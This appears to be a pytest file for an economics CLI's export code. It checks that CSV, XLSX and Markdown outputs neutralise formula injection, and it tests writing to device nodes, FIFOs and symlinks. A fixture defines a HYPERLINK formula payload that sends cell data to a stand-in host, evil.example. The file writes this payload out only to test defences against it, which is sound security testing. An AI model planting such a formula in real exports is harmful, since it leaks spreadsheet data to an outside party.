"""Exports a hostile scenario cannot turn into formulas; output paths that are not files."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys

import openpyxl
import pytest

from econ.cli import main
from econ.model.loader import load_scenario
from econ.outputs.export import export_bytes
from tests.conftest import BASIC as DEFAULT
from tests.conftest import ROOT

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")|@x'


@pytest.fixture
def evil_scenario(tmp_path):
    """The default scenario with the student's model id made a formula (with a pipe)."""
    text = re.sub(r"(?<!role: )\bstudent\b(?=[:\s,\]])", "'" + EVIL.replace("'", "''") + "'",
                  DEFAULT.read_text())
    p = tmp_path / "evil.yaml"
    p.write_text(text)
    return p


def test_formula_cells_are_neutralised_in_csv_xlsx_and_markdown(evil_scenario):
    from econ.model.evaluate import evaluate

    loaded = load_scenario(evil_scenario)
    assert EVIL in loaded.scenario.models
    ev = evaluate(loaded.scenario, loaded.measured)
    rows = list(csv.reader(io.StringIO(export_bytes(ev, "csv").decode())))
    plans = [r[2] for r in rows[1:]]
    assert any(EVIL in p for p in plans)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in rows for cell in r if not _is_number(cell))
    assert "'" + EVIL in plans
    book = openpyxl.load_workbook(io.BytesIO(export_bytes(ev, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + EVIL for c in cells)
    md = export_bytes(ev, "md").decode()
    lines = [line for line in md.split("\n\n")[0].splitlines() if line.startswith("|")]
    # every row of the tier table has as many unescaped pipes as its header: the pipe in the
    # id did not split a cell
    pipes = [len(re.findall(r"(?<!\\)\|", line)) for line in lines]
    assert len(set(pipes)) == 1, pipes
    # the id is shown literally: its pipe, brackets and link syntax escaped
    from econ.outputs.cells import markdown_cell

    assert markdown_cell(EVIL) in md
    assert "\\|@" in markdown_cell(EVIL) and "\\(" in markdown_cell(EVIL)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), (-3.5, -3.5), (7, 7),
])
def test_spreadsheet_cell(value, safe):
    from econ.outputs.cells import spreadsheet_cell

    assert spreadsheet_cell(value) == safe


def test_markdown_cell():
    from econ.outputs.cells import markdown_cell

    assert markdown_cell("a|b\nc\r\nd\\") == "a\\|b<br>c<br>d\\\\"


def private_device(tmp_path, name: str, major: int, minor: int):
    """A character device node of our own in tmp_path (root only), so a regression replaces
    that node and never the machine's /dev."""
    path = tmp_path / name
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(major, minor))
    except (PermissionError, OSError) as exc:
        pytest.skip(f"cannot create a device node: {exc}")
    return path


def test_export_to_a_character_device_writes_into_it(tmp_path):
    null = private_device(tmp_path, "null", 1, 3)
    assert main(["export", str(DEFAULT), "-o", str(null), "--format", "csv"]) == 0
    assert stat.S_ISCHR(os.stat(null).st_mode)  # still the device, not a CSV file


def test_export_to_a_full_device_is_bad_input(tmp_path, capsys):
    full = private_device(tmp_path, "full", 1, 7)
    assert main(["export", str(DEFAULT), "-o", str(full), "--format", "csv"]) == 1
    assert capsys.readouterr().err.strip() == f"{full}: cannot write: No space left on device"
    assert stat.S_ISCHR(os.stat(full).st_mode)


def test_export_to_a_symlink_to_stdout(tmp_path):
    link = tmp_path / "stdout"
    link.symlink_to("/proc/self/fd/1")  # what /dev/stdout is; ours, so nothing shared is at risk
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    r = subprocess.run([sys.executable, "-m", "econ.cli", "export", str(DEFAULT), "-o",
                        str(link), "--format", "csv"], capture_output=True, text=True,
                       env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("\ufefftier,price_usd_month,")
    assert r.stdout.count("tier,price_usd_month,") == 1
    assert "no provenance sidecar beside a pipe or device" in r.stderr
    assert link.is_symlink()


def test_export_through_a_symlink_writes_its_target(tmp_path, capsys):
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert main(["export", str(DEFAULT), "-o", str(link), "--format", "csv"]) == 0
    assert link.is_symlink()
    assert target.read_text(encoding="utf-8-sig").startswith("tier,price_usd_month,")
    assert (tmp_path / "link.provenance.json").is_file()  # beside the name given
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "missing" / "x.csv")
    assert main(["export", str(DEFAULT), "-o", str(dangling), "--format", "csv"]) == 1
    assert dangling.is_symlink()


def test_export_to_a_fifo_writes_into_it(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "econ.cli", "export", str(DEFAULT), "-o",
                             str(fifo), "--format", "csv"], env=env, stderr=subprocess.PIPE,
                            text=True)
    with open(fifo) as fh:
        data = fh.read()
    assert proc.wait(timeout=60) == 0, proc.stderr.read() if proc.stderr else ""
    assert data.count("tier,price_usd_month,") == 1
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
